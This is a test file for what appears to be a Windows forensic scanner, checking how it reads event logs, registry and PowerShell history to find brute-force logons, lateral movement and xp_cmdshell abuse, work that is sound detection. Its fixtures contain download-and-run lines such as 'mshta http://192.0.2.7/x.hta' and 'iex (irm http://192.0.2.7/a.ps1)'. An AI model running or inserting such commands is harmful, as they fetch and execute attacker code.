/** Event logs of Windows hosts: what becomes of their records, and the way in that follows from them, or none. */
import { describe, expect, test } from 'bun:test';
import { given } from '../../src/formats/evtx/binxml.fixture.ts';
import type { GivenEvent } from '../../src/formats/evtx/evtx.fixture.ts';
import { emptyConfig } from '../../src/model/config.ts';
import { scan } from '../../src/scan/scan.ts';
import { folderTarget } from '../../src/target/folder.ts';
import { type HostSpec, plantWindows, ticks, usualAccounts } from './windows-host.fixture.ts';
import {
  at,
  auditing,
  guesses,
  logon,
  look,
  mined,
  reached,
  type Told,
  usual,
  ways,
} from './windows-logs.fixture.ts';

/** The numbers of the SID that the account database of the test hosts has. */
const ownMachine: readonly number[] = [1_111_111_111, 2_222_222_222, 3_333_333_333];

describe('the host', () => {
  const without = ['SYSTEM', 'SOFTWARE'] as const;
  const named = (computer: string): GivenEvent => ({
    ...logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '10.0.0.50', 3),
    computer,
  });

  test('has the name that its logs agree on where no hive has it', async () => {
    const told = await look(
      { without },
      { Security: [named('DB-02.corp.example')], System: [named('db-02')] },
    );
    expect(told.result.host.name.toLowerCase()).toBe('db-02');
  });

  test('keeps that of the hive, whatever its logs say', async () => {
    const told = await look({}, { Security: [named('DB-02')] });
    expect(told.result.host.name).toBe('WEB-07');
  });

  test('is not named by logs of several hosts, nor by what is no log', async () => {
    const several = await look({ without }, { Security: [named('DB-02')], System: [named('WEB-09')] });
    const files = { 'Windows/System32/winevt/Logs/Security.evtx': 'ElfFile\0 and nothing of the kind' };
    const none = await look({ without, files }, {});
    for (const { result } of [several, none]) expect(result.host.name).not.toMatch(/DB-02|WEB-09/i);
  });
});

describe('the way in', () => {
  test('Remote Desktop that was guessed, then the first trace within minutes', async () => {
    const told = await look(mined('2026-03-01T03:12:00Z'), {
      Security: [
        ...usual,
        ...guesses('203.0.113.9', '2026-03-01T02:00:00Z', 60),
        logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '203.0.113.9', 10),
      ],
    });
    expect(ways(told)).toEqual(['confirmed rdp-brute-force Administrator 203.0.113.9']);
    const [way] = told.result.entry ?? [];
    expect(way?.firstSuccess).toBe('2026-03-01T03:05:00Z');
    // A Run key is the first that it left, and what brings it back.
    expect(way?.chain.map(({ step }) => step)).toEqual(['attempt', 'success', 'file', 'persistence']);
    expect(told.result.infectionWindow).toMatchObject({
      from: '2026-03-01T03:05:00Z',
      to: '2026-03-01T03:12:00Z',
    });
  });

  test('in a log that somebody saved under a name of his own, and not in those of other components', async () => {
    const found = [
      ...usual,
      ...guesses('203.0.113.9', '2026-03-01T02:00:00Z', 60),
      logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '203.0.113.9', 10),
    ];
    const saved = await look(mined('2026-03-01T03:12:00Z'), { 'Security_backup 1': found });
    expect(ways(saved)).toEqual(['confirmed rdp-brute-force Administrator 203.0.113.9']);
    const component = await look(mined('2026-03-01T03:12:00Z'), {
      'Microsoft-Windows-Kernel-PnP%4Configuration': found,
      'Key Management Service': found,
    });
    expect(component.events).toEqual([]);
    expect(ways(component)).toEqual([]);
  });

  test('SQL Server that was guessed by a subnet', async () => {
    const sql = (eventId: number, us: number, from: string): GivenEvent => ({
      provider: 'MSSQLSERVER',
      channel: 'Application',
      computer: 'WEB-07',
      eventId,
      us,
      data: ['sa', ' Reason: Password did not match.', ` [CLIENT: ${from}]`],
    });
    const tries = Array.from({ length: 60 }, (_, index) =>
      sql(18456, at('2026-03-01T01:00:00Z', index * 2), `203.0.113.${(index % 4) + 10}`),
    );
    const told = await look(mined('2026-03-01T03:12:00Z'), {
      Application: [...tries, sql(18453, at('2026-03-01T03:10:00Z'), '203.0.113.77')],
      Security: usual,
    });
    expect(ways(told)).toEqual(['confirmed mssql-brute-force sa 203.0.113.77']);
  });

  test('file sharing that was guessed, long and slowly', async () => {
    const slow = Array.from({ length: 45 }, (_, hour) =>
      logon(4625, at('2026-02-27T00:00:00Z', hour * 3_600), 'administrator', '203.0.113.40', 3),
    );
    const told = await look(mined('2026-03-01T03:12:00Z'), {
      Security: [
        ...usual,
        ...slow,
        logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '203.0.113.40', 3),
      ],
    });
    expect(ways(told)).toEqual(['confirmed smb-brute-force Administrator 203.0.113.40']);
  });

  test('a shadow account that was made over file sharing, told by the log of sessions alone', async () => {
    const session: GivenEvent = {
      provider: 'Microsoft-Windows-TerminalServices-LocalSessionManager',
      channel: 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational',
      computer: 'WEB-07',
      eventId: 21,
      us: at('2026-02-28T19:55:00Z'),
      data: { User: 'WEB-07\\Administrator', SessionID: given.u32(2), Address: '198.51.100.23' },
    };
    const told = await look(
      {
        users: [
          ...usualAccounts,
          { rid: 1004, name: 'admin$', cloneOf: 500, written: ticks('2026-02-28T20:00:00Z') },
        ],
        groups: [{ rid: 544, name: 'Administrators', members: [500, 1001, 1004] }],
      },
      { 'Microsoft-Windows-TerminalServices-LocalSessionManager%4Operational': [session], Security: usual },
    );
    expect(ways(told)).toHaveLength(1);
    expect(ways(told)[0]).toBe('probable windows-logon Administrator 198.51.100.23');
  });

  test('a stolen password: a logon from an address of the internet that never came before, and nobody guessed', async () => {
    const told = await look(mined('2026-03-01T03:12:00Z'), {
      Security: [...usual, logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '203.0.113.9', 10)],
      'Microsoft-Windows-TerminalServices-RemoteConnectionManager%4Operational': [
        reached('2026-03-01T03:04:57Z', '203.0.113.9'),
        reached('2026-03-01T01:00:00Z', '203.0.113.200'),
      ],
    });
    expect(ways(told)).toEqual(['probable windows-logon Administrator 203.0.113.9']);
    const [way] = told.result.entry ?? [];
    expect(way?.missing).toEqual(['no-guesses']);
    expect(way?.chain.map(({ step, time }) => `${time} ${step}`)).toEqual([
      '2026-03-01T03:04:57Z attempt',
      '2026-03-01T03:05:00Z success',
      '2026-03-01T03:12:00Z file',
      '2026-03-01T03:12:00Z persistence',
    ]);
  });

  test('two of the internet who came within minutes before it', async () => {
    const told = await look(mined('2026-03-01T03:12:00Z'), {
      Security: [
        ...usual,
        logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '203.0.113.9', 10),
        logon(4624, at('2026-03-01T03:08:00Z'), 'ops', '198.51.100.7', 10),
      ],
    });
    expect(ways(told).toSorted()).toEqual([
      'probable windows-logon Administrator 203.0.113.9',
      'probable windows-logon ops 198.51.100.7',
    ]);
    for (const way of told.result.entry ?? []) expect(way.missing).toContain('several-candidates');
  });

  test('a log that was cleared is told as a hole in what is known', async () => {
    const cleared: GivenEvent = {
      provider: 'Microsoft-Windows-Eventlog',
      channel: 'Security',
      computer: 'WEB-07',
      eventId: 1102,
      us: at('2026-03-01T04:00:00Z'),
      userData: 'LogFileCleared',
      data: { SubjectUserName: 'Administrator' },
    };
    const told = await look(mined('2026-03-01T03:12:00Z'), { Security: [cleared] });
    expect(told.events.filter(({ what }) => what === 'host')).toMatchObject([{ action: 'log-cleared' }]);
    expect(told.result.gaps).toMatchObject([{ what: 'emptied', to: '2026-03-01T04:00:00Z' }]);
  });
});

/** A service of a miner, as the registry and the log of the service manager know it. */
const served: HostSpec = {
  system: {
    'ControlSet001\\Services\\UPlugPlay': {
      values: {
        Type: 16,
        Start: 2,
        ImagePath: 'cmd /c mshta http://192.0.2.7/x.hta',
        ObjectName: 'LocalSystem',
      },
      written: ticks('2026-03-01T03:05:02Z'),
    },
  },
};
const installed = (time: string, name: string, image: string): GivenEvent => ({
  provider: 'Service Control Manager',
  channel: 'System',
  computer: 'WEB-07',
  eventId: 7045,
  us: at(time),
  data: { ServiceName: name, ImagePath: image, AccountName: 'LocalSystem' },
});
const miner = installed('2026-03-01T03:05:02Z', 'UPlugPlay', 'cmd /c mshta http://192.0.2.7/x.hta');
const shared = (time: string, from: string): GivenEvent => ({
  provider: auditing,
  channel: 'Security',
  computer: 'WEB-07',
  eventId: 5145,
  us: at(time),
  data: {
    SubjectUserName: 'Administrator',
    IpAddress: from,
    ShareName: '\\\\*\\IPC$',
    RelativeTargetName: 'svcctl',
  },
});
const came = logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '10.0.0.77', 3);

describe('SQL Server that runs commands', () => {
  const setting = (time: string, before: string, after: string): GivenEvent => ({
    provider: 'MSSQLSERVER',
    channel: 'Application',
    computer: 'WEB-07',
    eventId: 15457,
    us: at(time),
    data: ['xp_cmdshell', before, after],
  });
  const client: GivenEvent = {
    provider: 'MSSQLSERVER',
    channel: 'Application',
    computer: 'WEB-07',
    eventId: 18454,
    us: at('2026-03-01T03:09:00Z'),
    data: ['sa', ' [CLIENT: 203.0.113.77]'],
  };
  const of = async (...events: readonly GivenEvent[]): Promise<readonly string[]> =>
    ways(await look(mined('2026-03-01T03:12:00Z'), { Application: events, Security: usual })).filter((way) =>
      way.includes('database-exec'),
    );

  test('xp_cmdshell was switched on minutes before the first trace', async () => {
    expect(await of(client, setting('2026-03-01T03:10:00Z', '0', '1'))).toEqual([
      'probable database-exec NT SERVICE\\MSSQLSERVER 203.0.113.77',
    ]);
  });

  test.each<[string, readonly GivenEvent[]]>([
    ['it was switched off', [setting('2026-03-01T03:10:00Z', '1', '0')]],
    ['long before', [setting('2026-02-28T03:10:00Z', '0', '1')]],
    [
      'a job of the owner that needs it each night',
      Array.from({ length: 5 }, (_, day) => setting(`2026-02-${24 + day}T03:10:00Z`, '0', '1')).concat(
        setting('2026-03-01T03:10:00Z', '0', '1'),
      ),
    ],
  ])('no way in: %s', async (_, events) => {
    expect(await of(client, ...events)).toEqual([]);
  });
});

describe('from a neighbour', () => {
  test('a service that was made over the network', async () => {
    const told = await look(served, {
      Security: [...usual, came, shared('2026-03-01T03:05:01Z', '10.0.0.77')],
      System: [miner],
    });
    expect(ways(told)).toEqual(['confirmed lateral Administrator 10.0.0.77']);
    expect(told.result.entry?.[0]?.chain.map(({ step }) => step)).toEqual([
      'success',
      'command',
      'persistence',
      'file',
      'persistence',
    ]);
  });

  test('without a log of shares it is probable', async () => {
    const told = await look(served, { Security: [...usual, came], System: [miner] });
    expect(ways(told)).toEqual(['probable lateral Administrator 10.0.0.77']);
    expect(told.result.entry?.[0]?.missing).toEqual(['no-share-logged']);
  });

  test('a task that was registered over the network', async () => {
    const task: GivenEvent = {
      provider: 'Microsoft-Windows-TaskScheduler',
      channel: 'x',
      computer: 'WEB-07',
      eventId: 106,
      us: at('2026-03-01T03:05:03Z'),
      data: { TaskName: '\\Sync9', UserContext: 'WEB-07\\Administrator' },
    };
    const told = await look(
      {
        ...mined('2026-03-01T03:06:00Z'),
        tasks: [
          { path: '\\Sync9', command: 'mshta.exe', parameters: 'http://192.0.2.7/x.hta', registry: false },
        ],
      },
      { Security: [...usual, came, shared('2026-03-01T03:05:01Z', '10.0.0.77'), task] },
    );
    expect(ways(told)).toHaveLength(1);
    expect(ways(told)[0]).toContain('lateral Administrator 10.0.0.77');
  });

  test.each<[string, readonly GivenEvent[], readonly GivenEvent[]]>([
    [
      'a neighbour who came an hour before',
      [],
      [logon(4624, at('2026-03-01T02:00:00Z'), 'x', '10.0.0.77', 3)],
    ],
    [
      'monitoring that comes every day, and opens no share',
      [],
      [logon(4624, at('2026-02-20T03:05:00Z'), 'Administrator', '10.0.0.77', 3), came],
    ],
    [
      'a deployment tool that makes services from afar all the time',
      [
        installed('2026-02-20T03:05:02Z', 'PDQDeployRunner-1', 'C:\\Windows\\AdminArsenal\\service.exe'),
        installed('2026-02-24T03:05:02Z', 'PDQDeployRunner-1', 'C:\\Windows\\AdminArsenal\\service.exe'),
      ],
      [
        logon(4624, at('2026-02-20T03:05:00Z'), 'Administrator', '10.0.0.77', 3),
        logon(4624, at('2026-02-24T03:05:00Z'), 'Administrator', '10.0.0.77', 3),
        came,
        shared('2026-03-01T03:05:01Z', '10.0.0.77'),
      ],
    ],
  ])('no way in: %s', async (_, services, logons) => {
    const told = await look(served, { Security: [...usual, ...logons], System: [...services, miner] });
    expect(ways(told)).toEqual([]);
  });

  test('services and tasks past those that are kept in mind are told, and none is accused blindly', async () => {
    const many = Array.from({ length: 5_001 }, (_, index) =>
      installed('2026-02-25T00:00:00Z', `Agent${index}`, 'C:\\Program Files\\Agent\\agent.exe'),
    );
    const told = await look(served, {
      Security: [...usual, came, shared('2026-03-01T03:05:01Z', '10.0.0.77')],
      System: [...many, miner],
    });
    expect(ways(told)).toEqual([]);
    expect(told.result.excluded?.find(({ what }) => what === 'not-kept')).toMatchObject({
      vector: 'lateral',
      count: 2,
    });
  });

  test('no way in: an honest service that was made from afar beside another infection', async () => {
    const told = await look(mined('2026-03-01T03:12:00Z'), {
      Security: [...usual, came, shared('2026-03-01T03:05:01Z', '10.0.0.77')],
      System: [installed('2026-03-01T03:05:02Z', 'ccmsetup', 'C:\\Windows\\ccmsetup\\ccmsetup.exe')],
    });
    expect(ways(told)).toEqual([]);
  });
});

describe('no way in', () => {
  test.each<[string, readonly GivenEvent[]]>([
    [
      'guesses that never came in',
      [
        ...usual,
        ...guesses('203.0.113.9', '2026-03-01T02:00:00Z', 500, ['administrator', 'admin', 'test', 'sa']),
      ],
    ],
    [
      'an administrator who mistypes, and works minutes before',
      [
        ...usual,
        ...guesses('10.0.0.50', '2026-03-01T03:00:00Z', 3),
        logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '10.0.0.50', 10),
      ],
    ],
    [
      'a service with an old password that fails all night from its own server',
      [
        ...usual,
        ...guesses('10.0.0.60', '2026-03-01T00:00:00Z', 300, ['backup']),
        logon(4624, at('2026-02-20T01:00:00Z'), 'backup', '10.0.0.60', 3),
        logon(4624, at('2026-03-01T03:06:00Z'), 'backup', '10.0.0.60', 3),
      ],
    ],
    [
      'an administrator at home, whose provider gives him another address of the same subnet each day',
      [
        ...usual,
        ...Array.from({ length: 8 }, (_, day) =>
          logon(4624, at('2026-02-20T12:00:00Z', day * 86_400), 'ops', `198.51.100.${day + 10}`, 10),
        ),
        logon(4624, at('2026-03-01T03:05:00Z'), 'ops', '198.51.100.90', 10),
      ],
    ],
    [
      'a logon from the internet that nothing follows for hours',
      [...usual, logon(4624, at('2026-02-28T20:00:00Z'), 'Administrator', '203.0.113.9', 10)],
    ],
    [
      'logons of the machine itself',
      [
        ...usual,
        logon(4624, at('2026-03-01T03:08:00Z'), 'WEB-07$', '203.0.113.5', 3),
        logon(4624, at('2026-03-01T03:08:01Z'), 'ANONYMOUS LOGON', '203.0.113.5', 3),
      ],
    ],
  ])('%s', async (_, events) => {
    expect(ways(await look(mined('2026-03-01T03:12:00Z'), { Security: events }))).toEqual([]);
  });

  test('on a host where nothing was left nobody is accused, and it is clean', async () => {
    const told = await look(
      {},
      {
        Security: [
          ...usual,
          ...guesses('203.0.113.9', '2026-03-01T02:00:00Z', 60),
          logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '203.0.113.9', 10),
        ],
      },
    );
    expect(told.result.verdict).toBe('clean');
    expect(told.result.entry ?? []).toEqual([]);
  });

  test('1149 is no logon', async () => {
    const told = await look(mined('2026-03-01T03:12:00Z'), {
      'Microsoft-Windows-TerminalServices-RemoteConnectionManager%4Operational': [
        reached('2026-03-01T03:05:00Z', '203.0.113.9'),
      ],
      Security: usual,
    });
    expect(told.events).toContainEqual(
      expect.objectContaining({ what: 'service', service: 'rdp', action: 'reached', from: '203.0.113.9' }),
    );
    expect(ways(told)).toEqual([]);
  });
});

describe('events that name an account by its SID', () => {
  const joins = (rid: number, machine: readonly number[] = ownMachine): GivenEvent => ({
    provider: auditing,
    channel: 'Security',
    computer: 'WEB-07',
    eventId: 4732,
    us: at('2026-03-01T03:00:00Z'),
    data: {
      MemberName: '-',
      MemberSid: given.sid(21, ...machine, rid),
      TargetUserName: 'Administrators',
      SubjectUserName: 'Administrator',
    },
  });

  test.each<[string, GivenEvent, string]>([
    ['an account of this host has its name', joins(1001), 'ops'],
    ['an account that is no more keeps its SID', joins(1066), `S-1-5-21-${ownMachine.join('-')}-1066`],
    [
      'the number of an account of another machine is nobody here',
      joins(1001, [1, 2, 3]),
      'S-1-5-21-1-2-3-1001',
    ],
  ])('%s', async (_, event, account) => {
    const { events, result } = await look({}, { Security: [event] });
    expect(events).toMatchObject([
      { what: 'account', action: 'member-added', group: 'Administrators', account },
    ]);
    expect(String(events[0]?.text)).toContain(`MemberSid=S-1-5-21-`);
    expect(result.verdict).toBe('clean');
  });

  test('names of a database that says anything are escaped', async () => {
    const users = [...usualAccounts, { rid: 1004, name: '\x1b[2J', written: ticks('2020-06-03T01:00:00Z') }];
    const { events } = await look({ users }, { Security: [joins(1004)] });
    expect(events).toMatchObject([{ account: '%1B[2J' }]);
  });
});

describe('what was typed into PowerShell', () => {
  const file = 'AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt';
  const typed = async (text: string | Uint8Array): Promise<Told> =>
    look({ files: { [`Users/Administrator/${file}`]: text } }, {});

  test('is told with its line and account, and no time that is certain', async () => {
    const { events, result } = await typed(
      'whoami\r\nforeach ($x in 1) {`\r\n  $x }\r\niex (irm http://192.0.2.7/a.ps1)\r\n',
    );
    expect(
      events.map((event) => (event.what === 'command' ? `${event.source.line} ${event.command}` : '')),
    ).toEqual(['1 whoami', '2 foreach ($x in 1) {%0A  $x }', '4 iex (irm http://192.0.2.7/a.ps1)']);
    expect(events[2]).toMatchObject({
      what: 'command',
      origin: 'history',
      account: 'Administrator',
      certain: false,
      source: { source: `C:\\Users\\${`Administrator/${file}`.replaceAll('/', '\\')}` },
    });
    expect(result.sources).toContainEqual(
      expect.objectContaining({ artifact: 'windows.powershell-history', status: 'ok' }),
    );
  });

  test('of an honest administrator leaves the host clean', async () => {
    const { result, events } = await typed('Get-Service W3SVC\nRestart-Service W3SVC\n升级\n');
    expect(events).toHaveLength(3);
    expect(result.verdict).toBe('clean');
    expect(result.coverage.find(({ id }) => id === 'windows-logs')).toMatchObject({ checked: false });
  });

  test('is escaped and bounded whatever stands there', async () => {
    const { events } = await typed(
      Buffer.from(`\x1b[2J\x00\n${'`\n'.repeat(5_000)}${'a'.repeat(100_000)}\n`),
    );
    expect(events).toHaveLength(2);
    expect(String(events[0]?.text)).toBe('%1B[2J%00');
    expect(events.every(({ text }) => text.length <= 3 * 8_192)).toBe(true);
    const huge = await typed(Buffer.alloc(17 << 20, 'whoami\n'));
    expect(huge.events).toEqual([]);
    expect(huge.result.sources).toContainEqual(
      expect.objectContaining({ artifact: 'windows.powershell-history', status: 'truncated' }),
    );
  });
});

describe('events', () => {
  const event = (eventId: number, provider: string, data: GivenEvent['data']): GivenEvent => ({
    provider,
    channel: 'Security',
    computer: 'WEB-07',
    eventId,
    us: at('2026-03-01T03:00:00Z'),
    ...(data === undefined ? {} : { data }),
  });

  test.each<[string, GivenEvent, Readonly<Record<string, unknown>>]>([
    [
      'an account that was made',
      event(4720, auditing, { TargetUserName: 'admin$', SubjectUserName: 'Administrator' }),
      { what: 'account', action: 'added', account: 'admin$', by: 'Administrator' },
    ],
    [
      'one that joins the administrators',
      event(4732, auditing, { MemberSid: given.sid(21, 1, 2, 3, 1004), TargetUserName: 'Administrators' }),
      { what: 'account', action: 'member-added', group: 'Administrators', account: 'S-1-5-21-1-2-3-1004' },
    ],
    [
      'a service that was installed',
      event(7045, 'Service Control Manager', {
        ServiceName: 'UPlugPlay',
        ImagePath: 'C:\\Windows\\sqhost.exe',
        AccountName: 'LocalSystem',
      }),
      { what: 'service', action: 'service-installed', detail: 'UPlugPlay: C:\\Windows\\sqhost.exe' },
    ],
    [
      'a task that was registered',
      event(4698, auditing, {
        TaskName: '\\x',
        TaskContent:
          '<Task><Actions><Exec><Command>mshta</Command><Arguments>http://192.0.2.7/x &amp;</Arguments></Exec></Actions></Task>',
      }),
      { action: 'task-registered', detail: '\\x: mshta http://192.0.2.7/x &' },
    ],
    [
      'an exclusion of Defender',
      event(5007, 'Microsoft-Windows-Windows Defender', {
        'Old Value': '',
        'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ = 0x0',
      }),
      { service: 'defender', action: 'setting-changed' },
    ],
    [
      'protection that was switched off',
      event(5001, 'Microsoft-Windows-Windows Defender', { 'Product Name': 'x' }),
      { service: 'defender', action: 'protection-off' },
    ],
    [
      'a command with its line',
      event(4688, auditing, {
        SubjectUserName: 'Administrator',
        NewProcessName: 'C:\\x.exe',
        CommandLine: 'x.exe -o pool.example.com:3333',
        NewProcessId: given.hex64(4711n),
      }),
      { what: 'command', command: 'x.exe -o pool.example.com:3333', pid: 4711, account: 'Administrator' },
    ],
    [
      'a script block',
      event(4104, 'Microsoft-Windows-PowerShell', { ScriptBlockText: 'iex (irm http://192.0.2.7/a)' }),
      { what: 'command', command: 'iex (irm http://192.0.2.7/a)' },
    ],
    [
      'OpenSSH of Windows',
      event(4, 'OpenSSH', {
        process: 'sshd',
        payload: 'Failed password for invalid user test from 203.0.113.4 port 50000 ssh2',
      }),
      { what: 'login', service: 'sshd', outcome: 'failed', known: false, from: '203.0.113.4', port: 50000 },
    ],
    [
      'xp_cmdshell that was set',
      event(15457, 'MSSQLSERVER', ['xp_cmdshell', '0', '1']),
      { service: 'sqlserver', action: 'setting', detail: 'xp_cmdshell | 0 | 1' },
    ],
  ])('%s', async (_, one, expected) => {
    const { events } = await look({}, { Security: [one] });
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({ host: 'WEB-07', us: at('2026-03-01T03:00:00Z'), ...expected });
  });

  test('a log that is none is told, and the scan goes on', async () => {
    const planted = plantWindows({
      files: { 'Windows/System32/winevt/Logs/Security.evtx': Buffer.alloc(70_000, 0x41) },
    });
    const target = folderTarget(planted.path);
    try {
      const taker = { begin: () => undefined, event: () => undefined, end: () => undefined };
      const asked = {
        interval: 0,
        active: false,
        thorough: false,
        keepSecrets: false,
        seen: [],
        language: 'en',
        config: emptyConfig,
      } as const;
      const { result } = await scan(
        target,
        undefined,
        { ...asked, logs: { taker, mostBytes: 2 ** 36 } },
        '0',
      );
      expect(
        result.sources.some(({ artifact, status }) => artifact === 'windows.log' && status === 'error'),
      ).toBe(true);
      expect(result.verdict).toBe('clean');
    } finally {
      await target.close();
      planted.remove();
    }
  });
});
